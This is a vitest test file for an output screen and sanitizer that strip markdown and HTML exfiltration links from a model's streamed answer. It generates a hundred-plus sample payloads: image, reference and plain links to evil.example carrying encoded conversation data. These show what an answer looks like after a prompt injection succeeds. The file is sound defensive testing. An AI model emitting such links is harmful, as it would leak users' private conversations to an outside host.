import { describe, expect, test } from 'vitest'
import { AnswerScreen } from '../../../../main/optimizer/security/answer-screen.ts'
import { neutral } from '../../../../main/optimizer/security/fence.ts'

const STOLEN = [
  'the%20whole%20conversation%20of%20today%20with%20every%20name%20in%20it',
  Buffer.from('the whole conversation of today with every name in it').toString('base64url'),
  'the+whole+conversation+of+today+with+every+name+in+it+and+more',
  '74686520776f72647320746861742074686520706572736f6e2077726f746520746f646179'
]
/** What an answer looks like when a model has obeyed a text that wants data carried away. */
const WAYS = [
  (data: string) => `![logo](https://evil.example/p.png?d=${data})`,
  (data: string) => `![](https://evil.example/${data}.png)`,
  (data: string) => `![a](//evil.example/x?q=${data} "t")`,
  (data: string) => `[continue](https://evil.example/next?state=${data})`,
  (data: string) => `[continue](<https://evil.example/next?state=${data}>)`,
  (data: string) => `<https://evil.example/r?x=${data}>`,
  (data: string) => `See https://evil.example/r?x=${data} for more.`,
  (data: string) => `![x][1]\n\n[1]: https://evil.example/p?d=${data}`,
  (data: string) => `[x][2]\n\n[2]: https://evil.example/p#${data}`
]
const WHERE = [
  (way: string) => way,
  (way: string) => `| a | b |\n|---|---|\n| ${way} | 1 |`,
  (way: string) => `- item\n- ${way}\n`
]

describe('of a hundred attempts to carry data away', () => {
  const attempts = STOLEN.flatMap((data) =>
    WAYS.flatMap((way) => WHERE.map((where) => ({ data, text: where(way(data)) })))
  )

  test('none reaches the page, whatever the pieces of the stream', () => {
    expect(attempts.length).toBeGreaterThanOrEqual(100)
    for (const { data, text } of attempts)
      for (const size of [1, 3, 7, text.length]) {
        const screen = new AnswerScreen('')
        let said = ''
        for (let at = 0; at < text.length; at += size) said += screen.push(text.slice(at, at + size))
        expect(said + screen.end(), text).not.toContain(data)
      }
  })

  test('none reaches the model as a picture or as HTML that loads', () => {
    for (const { data } of attempts) {
      expect(neutral(`![x](https://evil.example/p?d=${data})`)).not.toContain('evil.example')
      expect(neutral(`<img src="https://evil.example/${data}">`)).not.toContain('<img')
    }
  })
})
